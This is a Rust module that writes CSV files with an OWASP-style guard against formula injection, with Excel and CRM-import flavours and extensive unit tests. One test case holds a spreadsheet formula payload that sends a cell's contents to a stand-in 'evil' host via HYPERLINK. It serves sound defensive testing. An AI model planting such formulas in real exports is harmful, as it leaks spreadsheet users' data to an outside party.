//! Writing CSV, and keeping every cell of it safe to open: the one place that decides what a CSV
//! the core writes looks like (the report, the matrix, the row notices, and any future export:
//! write it with a [`Writer`] and it is guarded like the others).
//!
//! # Format
//!
//! RFC 4180 with `\n` line ends; a field is quoted when it holds a comma, a quote, CR or LF (as
//! the `csv` crate's writer does: a test checks it byte for byte), and also when it holds a `;`
//! or a tab, the separators Excel splits on in other locales and in its import wizard, so that a
//! cell is one cell wherever it is opened; quotes are doubled; a lone empty field is quoted. Lines
//! end with LF in both flavours: Excel, LibreOffice, Google Sheets and CRM importers read LF.
//!
//! # Flavours
//!
//! - [`Flavour::Excel`] (the default): UTF-8 **with** a byte-order mark, so that Excel reads
//!   "Débora" as UTF-8 and not as "DÃ©bora", and the full formula guard.
//! - [`Flavour::CrmImport`]: UTF-8 without a byte-order mark (importers take it as part of the
//!   first header), and the guard with one exception: a cell that is entirely a signed number or
//!   an international phone number is left as it is (see below).
//!
//! # The formula guard (CSV injection, after OWASP's "CSV Injection" page)
//!
//! A spreadsheet runs a cell as a formula when it starts with `=`, `+`, `-` or `@` (some also after
//! leading spaces, or with the full-width forms), and a formula can call `HYPERLINK`,
//! `WEBSERVICE`, `IMPORTXML` or a DDE link with the partner's text and the user's other cells.
//! Every cell is checked, headers included, and neutralised by prefixing `'` (OWASP's "prepend
//! each cell field with a single quote"; the cell then reads as text) when:
//!
//! - its first character is TAB, CR, LF or NUL, or
//! - its first character after any leading whitespace (Unicode `White_Space`) and invisible
//!   format characters (zero-width space/joiners U+200B–U+200F, U+2060, U+FEFF, bidi controls
//!   U+061C, U+202A–U+202E, U+2066–U+2069) is one of `=` `+` `-` `@` or their full-width forms
//!   `＝` `＋` `－` `＠` (U+FF1D, U+FF0B, U+FF0D, U+FF20).
//!
//! The `'` goes before the whole cell, leading spaces included (`  =1` → `'  =1`).
//!
//! ## The exception of [`Flavour::CrmImport`]
//!
//! A guard that turns `+46 70 123 45 67` into `'+46 70 123 45 67` corrupts phone numbers on
//! import into a CRM, which runs no formula. A cell is left as it is when the *whole* cell
//! matches this grammar (ABNF, RFC 5234; no leading or trailing space):
//!
//! ```text
//! exempt  = signed / phone
//! signed  = ("+" / "-") 1*DIGIT [ ("." / ",") 1*DIGIT ]        ; -12.5  +3  -0,75
//! phone   = "+" DIGIT *( [sep] part )                           ; +46 70 123 45 67
//! part    = 1*DIGIT / "(" 1*DIGIT ")"                           ; +1 (555) 010-9999
//! sep     = " " / "-" / "." / "/"                               ; one separator at a time
//! ```
//!
//! with, for `phone`, between 7 and 15 digits in all (E.164 numbers have at most 15) and a digit
//! as its last character. Such a cell cannot run as a formula in the sense OWASP guards against:
//! every attack needs a function name or a cell reference (letters), a DDE link (`|`, `!`), a
//! range (`:`) or a string (`"`, `&`), and the grammar admits none of them. The worst a
//! spreadsheet can make of it is a number or an error value (`+1555-0100000` computed as a
//! subtraction, `+46 70 …` as an intersection of numbers): it calls nothing and reads no other
//! cell. Everything else that starts with a formula character stays guarded, e.g. `-1+1` (a
//! second sign), `+A1` (a reference), `=1`, `@SUM(1)`, `＋46 70 123 45 67` (full-width),
//! `+1-1` (too few digits for a phone), ` +46 70 123 45 67` (leading space), `-1e5`, `-5%`. The Excel flavour has no exception: a spreadsheet would not keep those
//! cells as written anyway.

use std::borrow::Cow;
use std::str::FromStr;

/// Which program the CSV is for. See the [module documentation](self) for the exact rules.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Hash)]
pub enum Flavour {
    /// For a spreadsheet (Excel, LibreOffice, Google Sheets): UTF-8 with a byte-order mark, and
    /// every cell that starts like a formula guarded with `'`. The default.
    #[default]
    Excel,
    /// For a CRM's import: UTF-8 without a byte-order mark; formulas guarded, but cells that are
    /// entirely a signed number or a phone number (`-12.5`, `+46 70 123 45 67`) left as they are.
    CrmImport,
}

impl Flavour {
    /// `excel` or `crm`.
    pub fn as_str(self) -> &'static str {
        match self {
            Flavour::Excel => "excel",
            Flavour::CrmImport => "crm",
        }
    }
}

impl FromStr for Flavour {
    type Err = &'static str;
    fn from_str(s: &str) -> Result<Flavour, &'static str> {
        match s.trim().to_ascii_lowercase().as_str() {
            "excel" => Ok(Flavour::Excel),
            "crm" | "crm-import" => Ok(Flavour::CrmImport),
            _ => Err("expected excel or crm"),
        }
    }
}

/// The cell as it must be written in `flavour`: prefixed with `'` when a spreadsheet could run it
/// as a formula (borrowed, unchanged, otherwise).
///
/// ```
/// use overlap::csv_out::{guard, Flavour};
/// assert_eq!(guard("=HYPERLINK(\"http://x\")", Flavour::Excel), "'=HYPERLINK(\"http://x\")");
/// assert_eq!(guard("+46 70 123 45 67", Flavour::Excel), "'+46 70 123 45 67");
/// assert_eq!(guard("+46 70 123 45 67", Flavour::CrmImport), "+46 70 123 45 67");
/// assert_eq!(guard("-1+1", Flavour::CrmImport), "'-1+1");
/// ```
pub fn guard(cell: &str, flavour: Flavour) -> Cow<'_, str> {
    if starts_like_formula(cell) && !(flavour == Flavour::CrmImport && is_signed_number_or_phone(cell)) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// Whether a spreadsheet could take the cell for a formula (the guard's trigger).
fn starts_like_formula(cell: &str) -> bool {
    if matches!(cell.chars().next(), Some('\t' | '\r' | '\n' | '\0')) {
        return true;
    }
    let first = cell.chars().find(|&c| !(c.is_whitespace() || invisible(c)));
    matches!(first, Some('=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠'))
}

/// Characters that show nothing: a cell starting with them looks like what follows them.
fn invisible(c: char) -> bool {
    matches!(c, '\u{200B}'..='\u{200F}' | '\u{2060}' | '\u{FEFF}' | '\u{061C}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}')
}

/// The grammar of the [`Flavour::CrmImport`] exception (module documentation): the whole cell is
/// a signed number or an international phone number.
fn is_signed_number_or_phone(cell: &str) -> bool {
    is_signed_number(cell) || is_phone(cell)
}

/// `("+" / "-") 1*DIGIT [ ("." / ",") 1*DIGIT ]`
fn is_signed_number(cell: &str) -> bool {
    let Some(rest) = cell.strip_prefix(['+', '-']) else { return false };
    let digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    match rest.split_once(['.', ',']) {
        Some((int, frac)) => digits(int) && digits(frac),
        None => digits(rest),
    }
}

/// `"+" DIGIT *( [sep] part )`, 7 to 15 digits, ending with a digit.
fn is_phone(cell: &str) -> bool {
    let Some(rest) = cell.strip_prefix('+') else { return false };
    let b = rest.as_bytes();
    if !b.first().is_some_and(u8::is_ascii_digit) || !b.last().is_some_and(u8::is_ascii_digit) {
        return false;
    }
    let mut digits = 0;
    let mut i = 0;
    // What the previous character was: a digit, a separator, or a closing parenthesis.
    let mut after_sep = false;
    while i < b.len() {
        match b[i] {
            b'0'..=b'9' => {
                digits += 1;
                after_sep = false;
            }
            b' ' | b'-' | b'.' | b'/' => {
                if after_sep {
                    return false; // two separators in a row
                }
                after_sep = true;
            }
            b'(' => {
                // "(" 1*DIGIT ")"
                let close = match b[i + 1..].iter().position(|&c| c == b')') {
                    Some(n) if n > 0 => i + 1 + n,
                    _ => return false,
                };
                if !b[i + 1..close].iter().all(u8::is_ascii_digit) {
                    return false;
                }
                digits += close - i - 1;
                i = close;
                after_sep = false;
            }
            _ => return false,
        }
        i += 1;
    }
    (7..=15).contains(&digits)
}

/// A CSV file being written to memory; every field goes through [`guard`].
#[derive(Debug)]
pub struct Writer {
    out: Vec<u8>,
    flavour: Flavour,
}

impl Default for Writer {
    fn default() -> Self {
        Writer::new(Flavour::default())
    }
}

impl Writer {
    /// An empty file of `flavour` (for [`Flavour::Excel`], the byte-order mark).
    pub fn new(flavour: Flavour) -> Self {
        let out = match flavour {
            Flavour::Excel => "\u{FEFF}".as_bytes().to_vec(),
            Flavour::CrmImport => Vec::new(),
        };
        Writer { out, flavour }
    }

    /// Appends one record, each field guarded.
    pub fn record<T: AsRef<str>>(&mut self, fields: impl IntoIterator<Item = T>) {
        let start = self.out.len();
        let mut count = 0;
        for field in fields {
            if count > 0 {
                self.out.push(b',');
            }
            count += 1;
            let f = guard(field.as_ref(), self.flavour);
            let f = f.as_bytes();
            if f.iter().any(|&b| matches!(b, b',' | b'"' | b'\r' | b'\n' | b';' | b'\t')) {
                self.out.push(b'"');
                for &b in f {
                    if b == b'"' {
                        self.out.push(b'"');
                    }
                    self.out.push(b);
                }
                self.out.push(b'"');
            } else {
                self.out.extend_from_slice(f);
            }
        }
        // A lone empty field is quoted, or the record would read back as a blank line.
        if count == 1 && self.out.len() == start {
            self.out.extend_from_slice(b"\"\"");
        }
        self.out.push(b'\n');
    }

    /// The file.
    pub fn into_bytes(self) -> Vec<u8> {
        self.out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// What the csv crate writes for the same records, guarded.
    fn reference(records: &[Vec<String>], flavour: Flavour) -> Vec<u8> {
        let mut w = csv::WriterBuilder::new().flexible(true).from_writer(Vec::new());
        for r in records {
            w.write_record(r.iter().map(|f| guard(f, flavour).into_owned())).unwrap();
        }
        w.into_inner().unwrap()
    }

    fn read_back(bytes: &[u8]) -> Vec<Vec<String>> {
        let mut rdr = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(bytes);
        rdr.records().map(|r| r.unwrap().iter().map(String::from).collect()).collect()
    }

    fn write(records: &[Vec<String>], flavour: Flavour) -> Vec<u8> {
        let mut w = Writer::new(flavour);
        for r in records {
            w.record(r);
        }
        w.into_bytes()
    }

    /// Every piece alone, and every pair of pieces as a record and as one field.
    fn records(pieces: &[&str]) -> Vec<Vec<String>> {
        let mut records: Vec<Vec<String>> = vec![vec![String::new()], vec![String::new(), String::new()]];
        for a in pieces {
            records.push(vec![a.to_string()]);
            for b in pieces {
                records.push(vec![a.to_string(), b.to_string()]);
                records.push(vec![format!("{a}{b}"), String::from("x"), a.to_string()]);
            }
        }
        records
    }

    #[test]
    fn writes_what_the_csv_crate_writes() {
        let pieces =
            ["", "a", "Acme, Inc.", "say \"hi\"", "two\nlines", "cr\r", " spaced ", "=1+2", "é", "\"", ",", "#x", "+46 70"];
        let records = records(&pieces);
        for flavour in [Flavour::Excel, Flavour::CrmImport] {
            let ours = write(&records, flavour);
            let body = match flavour {
                Flavour::Excel => ours.strip_prefix("\u{FEFF}".as_bytes()).expect("Excel: a byte-order mark"),
                Flavour::CrmImport => &ours[..],
            };
            assert_eq!(String::from_utf8_lossy(body), String::from_utf8_lossy(&reference(&records, flavour)));
            // And it reads back as guarded.
            let guarded: Vec<Vec<String>> =
                records.iter().map(|r| r.iter().map(|f| guard(f, flavour).into_owned()).collect()).collect();
            assert_eq!(read_back(body), guarded);
        }
    }

    #[test]
    fn semicolons_and_tabs_are_quoted() {
        // Excel splits on ";" where it is the list separator, and its import wizard on tabs: a
        // quoted cell stays one cell, so nothing after the separator can start a formula.
        let records = records(&["a;=1+1", "b\t=2", "x", ";", "\t"]);
        let ours = write(&records, Flavour::CrmImport);
        assert_eq!(
            read_back(&ours),
            records
                .iter()
                .map(|r| r.iter().map(|f| guard(f, Flavour::CrmImport).into_owned()).collect::<Vec<_>>())
                .collect::<Vec<_>>()
        );
        let mut w = Writer::new(Flavour::CrmImport);
        w.record(["Acme;=HYPERLINK(1)", "tab\there", "plain"]);
        assert_eq!(w.into_bytes(), b"\"Acme;=HYPERLINK(1)\",\"tab\there\",plain\n");
    }

    #[test]
    fn excel_starts_with_a_bom_and_crm_does_not() {
        let mut w = Writer::new(Flavour::Excel);
        w.record(["Débora"]);
        assert_eq!(w.into_bytes(), "\u{FEFF}Débora\n".as_bytes());
        let mut w = Writer::new(Flavour::CrmImport);
        w.record(["Débora"]);
        assert_eq!(w.into_bytes(), "Débora\n".as_bytes());
        assert_eq!(Writer::default().into_bytes(), "\u{FEFF}".as_bytes());
    }

    #[test]
    fn the_guard_by_flavour() {
        // (cell, Excel, CRM import): true = guarded with "'".
        let cases: &[(&str, bool, bool)] = &[
            // formulas and OWASP's first characters
            ("=1+2", true, true),
            ("=HYPERLINK(\"http://evil/?\"&A1,\"x\")", true, true),
            ("@SUM(A1)", true, true),
            ("+A1", true, true),
            ("-A1", true, true),
            ("-1+1", true, true),
            ("+1-1", true, true),
            ("-1-1", true, true),
            ("=1", true, true),
            ("+", true, true),
            ("-", true, true),
            ("\tx", true, true),
            ("\rx", true, true),
            ("\nx", true, true),
            ("\0x", true, true),
            // after leading whitespace and invisible characters
            ("  =1+2", true, true),
            (" +46 70 123 45 67", true, true),
            ("\u{A0}=1", true, true),
            ("\u{3000}@x", true, true),
            ("\u{200B}=1", true, true),
            ("\u{FEFF}-1", true, true),
            ("\u{202E}=1", true, true),
            // full-width
            ("＝1+2", true, true),
            ("＋46 70 123 45 67", true, true),
            ("－12.5", true, true),
            ("＠SUM(1)", true, true),
            ("  ＝1", true, true),
            // signed numbers
            ("-12.5", true, false),
            ("+3", true, false),
            ("-0,75", true, false),
            ("-12.", true, true),
            ("-.5", true, true),
            ("-1.2.3", true, true),
            ("-1e5", true, true),
            ("-5%", true, true),
            // phone numbers
            ("+46 70 123 45 67", true, false),
            ("+1 (555) 010-9999", true, false),
            ("+44 (0)20 7946 0958", true, false),
            ("+33.1.23.45.67.89", true, false),
            ("+49 89/1234567", true, false),
            ("+1-555-010-9999", true, false),
            ("+46701234567", true, false),
            ("+1 555 010", true, false),            // 7 digits: a phone
            ("+1 555 01", true, true),              // 6 digits: too short
            ("+1 234 567 890 123 456", true, true), // 16 digits: too long
            ("+1234567890123456", true, false),     // but a signed number
            ("+46 70 123 45 67 ", true, true),      // trailing space
            ("+46  70 123 45 67", true, true),      // two separators
            ("+46 70 - 123 45 67", true, true),     // two separators
            ("+1 (555 010-9999", true, true),       // unclosed
            ("+1 () 555 010 9999", true, true),     // empty parentheses
            ("+1 ((555)) 010 9999", true, true),    // nested
            ("+1 (5a5) 010 9999", true, true),      // a letter
            ("+46 70 123 45 6-", true, true),       // ends with a separator
            ("+(46) 70 123 45 67", true, true),     // a digit must follow "+"
            ("+46 70 123 45 67+1", true, true),     // a second sign
            ("+1 555 010 9999;=1", true, true),
            ("+1 555 010 9999:1", true, true),
            ("+1 555 010 9999|x", true, true),
            // ordinary cells
            ("Acme", false, false),
            ("acme.com", false, false),
            ("0046 70 123 45 67", false, false),
            ("12.5", false, false),
            ("a=b", false, false),
            ("Débora", false, false),
            ("", false, false),
            ("   ", false, false),
            ("'=already", false, false),
        ];
        for &(cell, excel, crm) in cases {
            for (flavour, want) in [(Flavour::Excel, excel), (Flavour::CrmImport, crm)] {
                let got = guard(cell, flavour);
                let expected = if want { format!("'{cell}") } else { cell.to_string() };
                assert_eq!(got, expected, "{cell:?} in {flavour:?}");
            }
        }
        // A guarded cell no longer starts like a formula.
        for &(cell, _, _) in cases {
            assert!(!starts_like_formula(&guard(cell, Flavour::Excel)), "{cell:?}");
        }
    }

    #[test]
    fn flavours_by_name() {
        assert_eq!("excel".parse(), Ok(Flavour::Excel));
        assert_eq!(" CRM ".parse(), Ok(Flavour::CrmImport));
        assert!("json".parse::<Flavour>().is_err());
        assert_eq!(Flavour::default(), Flavour::Excel);
        for f in [Flavour::Excel, Flavour::CrmImport] {
            assert_eq!(f.as_str().parse(), Ok(f));
        }
    }
}
